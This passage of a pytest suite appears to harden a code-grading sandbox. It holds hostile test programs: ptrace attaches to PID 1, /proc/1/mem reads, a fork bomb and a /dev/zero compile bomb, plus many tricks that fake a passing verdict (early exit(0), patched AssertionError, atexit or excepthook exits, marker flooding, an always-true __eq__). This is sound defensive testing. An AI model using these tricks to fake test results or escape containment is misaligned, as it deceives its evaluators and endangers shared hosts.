except OSError:
    pass
if hits:
    escaped(hits)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    _c("ptrace_attach", r'''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
hits = []
for p in [1, os.getppid()] + other_pids():
    if libc.ptrace(PTRACE_ATTACH, p, None, None) == 0:
        hits.append(p)
        libc.ptrace(PTRACE_DETACH, p, None, None)
try:
    with open("/proc/1/mem", "rb") as f:
        hits.append("opened /proc/1/mem")
except OSError:
    pass
if hits:
    escaped("ptrace attached to %s" % hits)
sys.exit(1)
''', accept=ACCEPT_FAILED, dangerous=True),
    # ---------------------------------------------------------------- fake passes (verdict integrity)
    _c("fake_exit0_builtin", fake_pass('''
    return a - b
exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_quit0", fake_pass('''
    return a - b
quit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_sys_exit0", fake_pass('''
    return a - b
import sys
sys.exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_os__exit0", fake_pass('''
    return a - b
import os
os._exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_raise_SystemExit", fake_pass('''
    return a - b
raise SystemExit
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_SystemExit_inside_candidate", fake_pass('''
    raise SystemExit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_atexit_os_exit0", fake_pass('''
    return a - b
import atexit, os
atexit.register(os._exit, 0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_atexit_SystemExit0", fake_pass('''
    return a - b
import atexit, sys
atexit.register(sys.exit, 0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_excepthook_exit0", fake_pass('''
    return a - b
import os, sys, threading
sys.excepthook = lambda *a: os._exit(0)
threading.excepthook = lambda *a: os._exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_patch_assert_builtins", fake_pass('''
    return a - b
import builtins
class _Harmless(Exception):
    pass
builtins.AssertionError = _Harmless
if isinstance(__builtins__, dict):
    __builtins__["AssertionError"] = _Harmless
builtins.print = lambda *a, **k: None
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_redefine_check", fake_pass('''
    return a - b
import builtins
builtins.check = lambda candidate: None
check = lambda candidate: None
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_patch_stdout_guess_marker", fake_pass('''
    return a - b
import os, sys
for guess in ("PASSED", "OK", "ok", "passed", "__SUCCESS__", "ALL TESTS PASSED", "True", "1"):
    print(guess)
for _ in range(2000):
    print("WZ-OK-" + os.urandom(16).hex())
sys.stdout.flush()
os._exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_close_stdout", fake_pass('''
    return a - b
import os
os.close(1)
os.open(os.devnull, os.O_WRONLY)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_exec_true", fake_pass('''
    return a - b
import os, shutil
os.execv(shutil.which("true") or "/bin/true", ["true"])
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_fork_parent_exits0", fake_pass('''
    return a - b
import os
if os.fork():
    os._exit(0)
'''), prelude=False, local=RUN_LOCAL),
    _c("fake_settrace_swallow", fake_pass('''
    return a - b
import sys, os
def _tracer(frame, event, arg):
    if event == "exception" and issubclass(arg[0], AssertionError):
        os._exit(0)
    return _tracer
sys.settrace(_tracer)
'''), prelude=False, local=RUN_LOCAL),
    # ---------------------------------------------------------------- compiled languages
    _c("cpp_infinite_loop", r'''
int main() { volatile unsigned long x = 0; for (;;) { x++; } }
''', language="cpp", prelude=False, accept=ACCEPT_TIMEOUT, timeout=1.5),
    _c("cpp_fork_bomb", r'''
#include <unistd.h>
int main() { for (;;) fork(); }
''', language="cpp", prelude=False, accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=2, dangerous=True, victim=True),
    _c("cpp_compile_bomb_dev_zero", r'''
#include "/dev/zero"
int main() { return 0; }
''', language="cpp", prelude=False, accept=ACCEPT_FAILED_OR_TIMEOUT, timeout=2, dangerous=True),
    _c("cpp_exit0_before_tests", r'''
#include <cstdio>
#include <cstdlib>
#include <cassert>
int add(int a, int b) { std::exit(0); return a - b; }
int main() { assert(add(2, 3) == 5); std::puts("__MARKER__"); return 0; }
''', language="cpp", prelude=False),
    _c("java_exit0_before_tests", r'''
class Problem {
    static int add(int a, int b) { System.exit(0); return a - b; }
    public static void main(String[] args) {
        if (add(2, 3) != 5) throw new AssertionError();
        System.out.println("__MARKER__");
    }
}
''', language="java", prelude=False, timeout=20),
]

CASE_IDS = [c.id for c in CASES]
assert len(set(CASE_IDS)) == len(CASE_IDS), "duplicate case ids"
LOCAL_CASES = [c for c in CASES if c.local is None]

# Documented limitations: these defeat any harness that runs the test in the same process as the
# completion; the sandbox cannot tell them apart from a correct solution.
KNOWN_LIMITATIONS = [
    pytest.param(fake_pass('''
    return a - b
import sys, os
# the marker is a constant of the module's own code object (and in its source file)
for const in sys._getframe(0).f_code.co_consts:
    if isinstance(const, str) and const.startswith("WZ-" + "OK-") and len(const) > 6:
        print(const)
        sys.stdout.flush()
        os._exit(0)
'''), id="read_marker_from_own_code"),
    pytest.param(fake_pass('''
    class _Always:
        def __eq__(self, other):
            return True
    return _Always()
'''), id="eq_always_true"),
]


# ------------------------------------------------------------------------------------ host helpers
def _host_tagged_pids(tags: list[str]) -> list[tuple[int, str]]:
    found = []
    me = os.getpid()
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) == me:
            continue
        try:
            comm = Path(f"/proc/{name}/comm").read_text().strip()
            cmd = Path(f"/proc/{name}/cmdline").read_bytes().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if any(t in comm for t in tags):
            found.append((int(name), comm + " " + cmd[:80]))
    return found


def _wait_no_tagged_host_processes(tags: list[str]) -> list[tuple[int, str]]:
    """Poll the host's /proc for processes carrying a tag; kill what is left after the grace."""
    deadline = time.monotonic() + HOST_GRACE_S
    while True:
        left = _host_tagged_pids(tags)
        if not left or time.monotonic() > deadline:
            break
        time.sleep(0.1)
    for pid, _ in left:  # keep the shared machine healthy whatever the verdict
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return left


def _containers(env: Env) -> list[str]:
    """Running containers of this sandbox instance (by its session label), else of the image."""
    session = getattr(env.sb, "session", None)
    filt = f"label=wizardcoder.sandbox.session={session}" if session else f"ancestor={SANDBOX_IMAGE}"
    out = subprocess.run(["docker", "ps", "-q", "--filter", filt, "--filter", "status=running"],
                         check=False, capture_output=True, text=True, timeout=30)
    return out.stdout.split()


def _settled_container_count(env: Env) -> int:
    """Containers being replaced are removed in the background: allow them a few seconds."""
    deadline = time.monotonic() + HOST_GRACE_S
    while True:
        n = len(_containers(env))
        if n <= WORKERS + 1 or time.monotonic() > deadline:
            return n
        time.sleep(0.2)


def _host_ips() -> list[str]:
    ips = set()
    try:
        out = subprocess.run(["hostname", "-I"], check=False, capture_output=True, text=True, timeout=5).stdout
        ips.update(a for a in out.split() if "." in a)
    except (OSError, subprocess.SubprocessError):
        pass
    try:
        out = subprocess.run(["docker", "network", "inspect", "bridge", "-f",
                              "{{range .IPAM.Config}}{{.Gateway}} {{end}}"],
                             check=False, capture_output=True, text=True, timeout=10).stdout
        ips.update(a for a in out.split() if "." in a)
    except (OSError, subprocess.SubprocessError):
        pass
    ips.add("172.17.0.1")
    return sorted(ips)


def _public_targets() -> list[tuple[str, int]]:
    targets = [("1.1.1.1", 443), ("8.8.8.8", 53)]
    for name in ("pypi.org", "deb.debian.org"):
        try:
            targets.append((socket.gethostbyname(name), 443))
            targets.append((socket.gethostbyname(name), 80))
        except OSError:
            pass
    return targets


class _Listeners:
    """TCP and UDP listeners on every host interface that record whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.tcp.bind(("0.0.0.0", 0))
        self.tcp.listen(16)
        self.tcp.settimeout(0.2)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", 0))
        self.udp.settimeout(0.2)
        self.tcp_hits: list = []
        self.udp_hits: list = []
        self._stop = threading.Event()
        self._threads = [threading.Thread(target=self._tcp_loop, daemon=True),
                         threading.Thread(target=self._udp_loop, daemon=True)]
        for t in self._threads:
            t.start()

    @property
    def ports(self) -> tuple[int, int]:
        return self.tcp.getsockname()[1], self.udp.getsockname()[1]

    def _tcp_loop(self) -> None:
        while not self._stop.is_set():
            try:
                conn, peer = self.tcp.accept()
            except OSError:
                continue
            conn.settimeout(0.5)
            try:
                data = conn.recv(100)
            except OSError:
                data = b""
            conn.close()
            self.tcp_hits.append((peer, data))

    def _udp_loop(self) -> None:
        while not self._stop.is_set():
            try:
                data, peer = self.udp.recvfrom(2048)
            except OSError:
                continue
            self.udp_hits.append((peer, data[-40:]))

    def close(self) -> None:
        self._stop.set()
        for t in self._threads:
            t.join(timeout=2)
        self.tcp.close()
        self.udp.close()


# ------------------------------------------------------------------------------------ the probe
PROBE = r'''
import os, sys, json, time
time.sleep(0.15)  # long enough that a round of probes spreads over every warm worker
TAGS = __TAGS__
problems = []
me = os.getpid()
procs = []
for name in os.listdir("/proc"):
    if not name.isdigit() or int(name) == me:
        continue
    try:
        comm = open("/proc/%s/comm" % name).read().strip()
    except OSError:
        continue
    procs.append(comm)
    if any(t in comm for t in TAGS):
        problems.append("process %s (%s) of the previous job is still alive" % (name, comm))
dirs = {"cwd": os.getcwd(), "tmp": "/tmp", "shm": "/dev/shm", "home": os.path.expanduser("~"),
        "vartmp": "/var/tmp", "mqueue": "/dev/mqueue", "parent": os.path.dirname(os.getcwd())}
listing = {}
for key, d in dirs.items():
    try:
        names = sorted(os.listdir(d))
    except OSError as exc:
        names = ["<%s>" % exc.strerror]
    listing[key] = names
    for n in names:
        if any(t in n for t in TAGS) or n in ("sitecustomize.py", "usercustomize.py", "json.py", "tempfile.py"):
            problems.append("file %s/%s of the previous job is still there" % (d, n))
for ipc in ("shm", "sem", "msg"):
    try:
        rows = open("/proc/sysvipc/" + ipc).read().splitlines()[1:]
    except OSError:
        rows = []
    if rows:
        problems.append("%d SysV %s object(s) survived" % (len(rows), ipc))
pid = os.fork()
if pid == 0:
    os._exit(7)
if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) != 7:
    problems.append("fork/wait broken")
try:
    block = b"\x01" * (128 << 20)
    del block
except MemoryError:
    problems.append("cannot allocate 128 MiB")
import threading
ts = [threading.Thread(target=time.sleep, args=(0.05,)) for _ in range(4)]
for t in ts:
    t.start()
for t in ts:
    t.join()
for d in (os.getcwd(), os.environ.get("TMPDIR") or "/tmp"):
    path = os.path.join(d, "probe-__NONCE__.bin")
    try:
        with open(path, "wb") as f:
            for _ in range(4):
                f.write(b"\0" * (1 << 20))
        os.remove(path)
    except OSError as exc:
        problems.append("cannot write 4 MiB in %s: %s" % (d, exc))
print(json.dumps({"nonce": "__NONCE__", "problems": problems, "nprocs": len(procs), "procs": procs[:20],
                  "listing": {k: v[:20] for k, v in listing.items()}, "counts": {k: len(v) for k, v in listing.items()}}))
print("__MARKER__")
'''

CANARY = '''
def add(a, b):
    return a - b


def check(candidate):
    assert candidate(2, 3) == 5


check(add)
print("__MARKER__")
'''

VICTIM = '''
import os, time
time.sleep(2.0)
pids = []
for _ in range(4):
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    pids.append(pid)
for pid in pids:
    assert os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0
block = b"x" * (64 << 20)
print("__MARKER__")
'''


class Env:
    """One sandbox instance + the host bait, shared by a backend's whole corpus."""

    def __init__(self, backend: str, sandbox, bait: HostBait, listeners: _Listeners) -> None:
        self.backend = backend
        self.sb = sandbox
        self.bait = bait
        self.listeners = listeners
        self.baseline: dict | None = None
        self.preflight: dict | None = None
        self.preflight_problems: list[str] = []

    def reset(self) -> None:
        """A fresh sandbox instance, so that one case's leftovers do not fail the cases after it."""
        from sandbox import create_sandbox

        self.sb.close()
        self.sb = create_sandbox(self.backend, workers=WORKERS)

    def ctx(self) -> Ctx:
        return Ctx(self.backend, _new_tag(), _new_marker(), self.bait)

    def job(self, case: Case, ctx: Ctx):
        from sandbox import Job

        text = (PRELUDE + case.program) if case.prelude else case.program
        return Job(program=ctx.fill(text), language=case.language, timeout=case.timeout,
                   memory_mb=case.memory_mb, success_marker=ctx.marker)

    def probe_round(self, tags: list[str]) -> list[tuple[str, object, dict | None, str]]:
        """Run PROBE_ROUNDS probes and a canary at once; (kind, result, report, marker) each."""
        from sandbox import Job

        jobs, meta = [], []
        for _ in range(PROBE_ROUNDS):
            marker, nonce = _new_marker(), secrets.token_hex(6)
            program = (PROBE.replace("__TAGS__", json.dumps(tags)).replace("__NONCE__", nonce)
                       .replace("__MARKER__", marker))
            jobs.append(Job(program=program, timeout=20, memory_mb=512, success_marker=marker))
            meta.append(("probe", marker, nonce))
        marker = _new_marker()
        jobs.append(Job(program=CANARY.replace("__MARKER__", marker), timeout=10, success_marker=marker))
        meta.append(("canary", marker, ""))
        out = []
        for (kind, marker, nonce), res in zip(meta, self.sb.run_many(jobs)):
            report = None
            if kind == "probe":
                lines = res.stdout.splitlines()
                try:
                    report = json.loads(lines[0])
                except (IndexError, ValueError):
                    report = None
                if report is not None and report.get("nonce") != nonce:
                    report = {"problems": [f"probe got another job's output: {lines[:2]!r}"], "nprocs": 0,
                              "procs": [], "counts": {}, "listing": {}}
                if report is not None and lines != [lines[0], marker]:
                    report["problems"].append(f"probe stdout is not exactly its own: {res.stdout[:300]!r}")
            out.append((kind, res, report, marker))
        return out


def _make_bait(tmp_root: Path, listeners: _Listeners) -> HostBait:
    secret_name = "WZ_HOST_SECRET_" + secrets.token_hex(4).upper()
    secret_value = "wzsecret" + secrets.token_hex(12)
    files = {}
    for path in (tmp_root / f"wz-host-secret-{secrets.token_hex(4)}.txt",
                 Path("/tmp") / f"wz-host-secret-{secrets.token_hex(4)}.txt"):
        content = "host secret " + secrets.token_hex(16) + "\n"
        path.write_text(content)
        files[str(path)] = content
    tcp_port, udp_port = listeners.ports
    return HostBait(secret_name, secret_value, files, tcp_port, udp_port, _host_ips(), _public_targets())


def _open_env(backend: str, tmp_path_factory) -> Env:
    from sandbox import create_sandbox

    listeners = _Listeners()
    bait = _make_bait(tmp_path_factory.mktemp(f"bait-{backend}"), listeners)
    # The secret is in this process's environment BEFORE the sandbox starts (workers inherit nothing).
    os.environ[bait.secret_name] = bait.secret_value
    sb = create_sandbox(backend, workers=WORKERS)
    env = Env(backend, sb, bait, listeners)
    # Baseline: a probe round on the fresh sandbox must be clean, and gives the normal counts.
    round_ = env.probe_round([_new_tag()])
    problems = [(kind, res.status, res.reason, res.stdout[:500], res.stderr[-500:], rep and rep.get("problems"))
                for kind, res, rep, _ in round_
                if (kind == "probe" and (not res.passed or rep is None or rep["problems"]))
                or (kind == "canary" and res.status.value != "failed")]
    if problems:
        sb.close()
        pytest.fail(f"the {backend} sandbox fails the clean probe round before any hostile job: {problems}")
    env.baseline = {
        "nprocs": max(rep["nprocs"] for kind, _, rep, _ in round_ if kind == "probe"),
        "counts": {k: max(rep["counts"][k] for kind, _, rep, _ in round_ if kind == "probe")
                   for k in round_[0][2]["counts"]},
    }
    return env


def _close_env(env: Env) -> None:
    env.sb.close()
    env.listeners.close()
    os.environ.pop(env.bait.secret_name, None)
    for path in env.bait.files:
        try:
            os.unlink(path)
        except OSError:
            pass


PREFLIGHT = r'''
import os, sys, json
facts = {"uid": os.getuid(), "euid": os.geteuid(), "pidns": os.readlink("/proc/self/ns/pid"),
         "pid1_comm": open("/proc/1/comm").read().strip()}
def read(*paths):
    for p in paths:
        try:
            return open(p).read().strip()
        except OSError:
            pass
    return None
facts["pids_max"] = read("/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max")
facts["mem_limit"] = read("/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max")
try:
    open("/" + "wz_preflight_probe", "w").close()
    facts["root_writable"] = True
    os.unlink("/wz_preflight_probe")
except OSError:
    facts["root_writable"] = False
print(json.dumps(facts))
print("__MARKER__")
'''


def _preflight(env: Env) -> None:
    from sandbox import Job

    marker = _new_marker()
    res = env.sb.run(Job(PREFLIGHT.replace("__MARKER__", marker), timeout=20, success_marker=marker))
    problems = []
    if not res.passed:
        problems.append(f"preflight job did not pass: {res.status} {res.reason} {res.stderr[-400:]}")
        env.preflight_problems = problems
        return
    facts = json.loads(res.stdout.splitlines()[0])
    env.preflight = facts
    if facts["uid"] == 0 or facts["euid"] == 0:
        problems.append("jobs run as root")
    if facts["pidns"] == os.readlink("/proc/self/ns/pid"):
        problems.append("jobs share the host's pid namespace")
    if facts["pids_max"] in (None, "max"):
        problems.append(f"no pids limit (pids.max={facts['pids_max']})")
    if facts["mem_limit"] in (None, "max") or int(facts["mem_limit"] or 0) > 64 << 30:
        problems.append(f"no memory limit ({facts['mem_limit']})")
    if facts["root_writable"]:
        problems.append("the root filesystem is writable")
    env.preflight_problems = problems


@pytest.fixture(scope="module")
def docker_env(tmp_path_factory):
    env = _open_env("docker", tmp_path_factory)
    _preflight(env)
    yield env
    _close_env(env)
    # Nothing the sandbox started may outlive close(): no container of the image still running.
    time.sleep(0.5)


@pytest.fixture(scope="module")
def local_env(tmp_path_factory):
    env = _open_env("local", tmp_path_factory)
    yield env
    _close_env(env)


# ------------------------------------------------------------------------------------ checks
def _run_case(env: Env, case: Case) -> None:
    from sandbox import Job, Status

    ctx = env.ctx()
    digest_before = env.bait.digest()
    tcp_before, udp_before = len(env.listeners.tcp_hits), len(env.listeners.udp_hits)
    hostile = env.job(case, ctx)
    victim_marker = _new_marker()
    if case.victim:
        victim = Job(program=VICTIM.replace("__MARKER__", victim_marker), timeout=20, memory_mb=256,
                     success_marker=victim_marker)
        victim_res, res = env.sb.run_many([victim, hostile])
    else:
        victim_res, res = None, env.sb.run(hostile)
    failures: list[str] = []
    where = f"[{env.backend}:{case.id}] status={res.status.value} exit={res.exit_code} reason={res.reason!r}"
    detail = f"\nstdout: {res.stdout[:600]!r}\nstderr: {res.stderr[-600:]!r}"
    if res.status is Status.PASSED:
        failures.append(f"FALSE PASS {where}{detail}")
    elif res.status.value not in case.accept:
        failures.append(f"unexpected status {where} (accepted: {sorted(case.accept)}){detail}")
    if len(res.stdout) > case.max_stdout or len(res.stderr) > case.max_stdout:
        failures.append(f"output not capped: stdout {len(res.stdout)} / stderr {len(res.stderr)} characters")
    if victim_res is not None and not victim_res.passed:
        failures.append(f"a concurrent innocent job was harmed: {victim_res.status.value} {victim_res.reason!r} "
                        f"stderr={victim_res.stderr[-300:]!r}")

    # Host: nothing of the job left running, nothing changed, nothing received.
    left = _wait_no_tagged_host_processes([ctx.tag])
    if left:
        failures.append(f"{len(left)} process(es) of the job still running on the host "
                        f"{HOST_GRACE_S:g}s after its result (killed by the test): {left[:5]}")
    if env.bait.digest() != digest_before:
        failures.append(f"host files changed: {digest_before} -> {env.bait.digest()}")
    if len(env.listeners.tcp_hits) > tcp_before or len(env.listeners.udp_hits) > udp_before:
        failures.append(f"host listeners were reached: tcp={env.listeners.tcp_hits[tcp_before:]} "
                        f"udp={env.listeners.udp_hits[udp_before:]}")

    if env.backend == "docker":
        extra = _settled_container_count(env) - (WORKERS + 1)  # the workers and one warm spare
        if extra > 0:
            failures.append(f"{extra} more container(s) of this sandbox than workers + spare: {_containers(env)}")

    # The next jobs on the same sandbox instance get a clean environment.
    for kind, pres, report, _ in env.probe_round([ctx.tag]):
        if kind == "canary":
            if pres.status is not Status.FAILED:
                failures.append(f"canary (a wrong solution) after the hostile job: {pres.status.value} "
                                f"{pres.reason!r} stdout={pres.stdout[:300]!r}")
            continue
        if not pres.passed or report is None:
            failures.append(f"probe after the hostile job: {pres.status.value} {pres.reason!r} "
                            f"stdout={pres.stdout[:300]!r} stderr={pres.stderr[-300:]!r}")
            continue
        if report["problems"]:
            failures.append(f"probe after the hostile job: {report['problems']}")
        if env.backend == "docker":
            # Only inside a container are these counts the job's own (on the host they are everyone's).
            if report["nprocs"] > env.baseline["nprocs"]:
                failures.append(f"probe sees {report['nprocs']} processes (baseline "
                                f"{env.baseline['nprocs']}): {report['procs']}")
            for key, n in report["counts"].items():
                if n > env.baseline["counts"][key]:
                    failures.append(f"probe sees {n} entries in {key} (baseline {env.baseline['counts'][key]}):"
                                    f" {report['listing'][key]}")
    if failures:
        env.reset()
    assert not failures, "\n".join(failures)


@pytest.mark.docker
@pytest.mark.parametrize("case", CASES, ids=CASE_IDS)
def test_hostile_docker(docker_env: Env, case: Case) -> None:
    if case.dangerous and docker_env.preflight_problems:
        pytest.fail("not run: the preflight shows containment this case relies on is missing: "
                    + "; ".join(docker_env.preflight_problems))
    _run_case(docker_env, case)


@pytest.mark.parametrize("case", LOCAL_CASES, ids=[c.id for c in LOCAL_CASES])
def test_hostile_local(local_env: Env, case: Case) -> None:
    """The local backend: the corpus subset that is safe on the host (see the module docstring)."""
    _run_case(local_env, case)


@pytest.mark.docker
def test_docker_preflight(docker_env: Env) -> None:
    """The isolation facts the dangerous cases rely on, as a job sees them."""
    assert not docker_env.preflight_problems, docker_env.preflight_problems


@pytest.mark.docker
def test_stale_marker_docker(docker_env: Env) -> None:
    _stale_marker(docker_env)


def test_stale_marker_local(local_env: Env) -> None:
    _stale_marker(local_env)


def _stale_marker(env: Env) -> None:
    """A marker from an earlier job proves nothing: the sandbox matches this job's marker exactly."""
    from sandbox import Job, Status

    old = _new_marker()
    first = env.sb.run(Job(f"print({old!r})", success_marker=old))
    assert first.status is Status.PASSED, first
    new = _new_marker()
    replay = env.sb.run(Job(fake_pass(f"    return a - b\nimport os\nprint({old!r})\nprint({new[:-1]!r})\n"
                                      f"print({new + 'x'!r})\nprint('  ' + {new!r})\nos._exit(0)\n")
                            .replace("__MARKER__", new), success_marker=new))
    assert replay.status is Status.FAILED, replay


@pytest.mark.docker
@pytest.mark.xfail(strict=True, reason="documented limitation: code running inside the checked program can "
                   "read the success marker from its own code, or make the test's comparisons succeed")
@pytest.mark.parametrize("program", KNOWN_LIMITATIONS)
def test_known_limitation(docker_env: Env, program: str) -> None:
    from sandbox import Job, Status

    marker = _new_marker()
    res = docker_env.sb.run(Job(program.replace("__MARKER__", marker), success_marker=marker))
    assert res.status is Status.FAILED, res


def _legit(env: Env) -> None:
    """The limits must not fail ordinary programs: threads, then a sizeable allocation, at the default
    memory_mb (RLIMIT_AS counts every thread's stack and malloc arena as used address space)."""
    from sandbox import Job, Status

    marker = _new_marker()
    program = f"""
import threading, time
from concurrent.futures import ThreadPoolExecutor
with ThreadPoolExecutor(max_workers=16) as ex:
    assert sum(ex.map(lambda x: [x] * 1000 and x, range(100))) == 4950
block = bytearray(200 << 20)
print({marker!r})
"""
    res = env.sb.run(Job(program, success_marker=marker))
    assert res.status is Status.PASSED, res


@pytest.mark.docker
def test_legit_threads_then_memory_docker(docker_env: Env) -> None:
    _legit(docker_env)


def test_legit_threads_then_memory_local(local_env: Env) -> None:
    _legit(local_env)


@pytest.mark.docker
def test_no_container_outlives_close(tmp_path_factory) -> None:
    """A sandbox that ran hostile jobs leaves no container and no process behind after close()."""
    from sandbox import Job, create_sandbox

    sb = create_sandbox("docker", workers=2)
    session = getattr(sb, "session", None)

    def ours() -> set[str]:
        filt = f"label=wizardcoder.sandbox.session={session}" if session else f"ancestor={SANDBOX_IMAGE}"
        out = subprocess.run(["docker", "ps", "-aq", "--no-trunc", "--filter", filt],
                             check=False, capture_output=True, text=True, timeout=30)
        return set(out.stdout.split())

    before = set() if session else ours()
    tag = _new_tag()
    try:
        orphan = (PRELUDE.replace("__TAG__", tag).replace("__LOCAL__", "False").replace("__MARKER__", "x")
                  + "\ntag_self()\nif os.fork() == 0:\n    os.setsid()\n    tag_self()\n    time.sleep(60)\n"
                  "time.sleep(5)\n")
        sb.run_many([Job(orphan, timeout=1), Job(orphan, timeout=1), Job("print(1)")])
        during = ours() - before
        assert during, "the sandbox runs no container of the image it is configured with"
    finally:
        sb.close()
    deadline = time.monotonic() + 20
    while (ours() - before) & during and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not (ours() - before) & during, "containers outlived close()"
    assert not _wait_no_tagged_host_processes([tag]), "processes outlived close()"
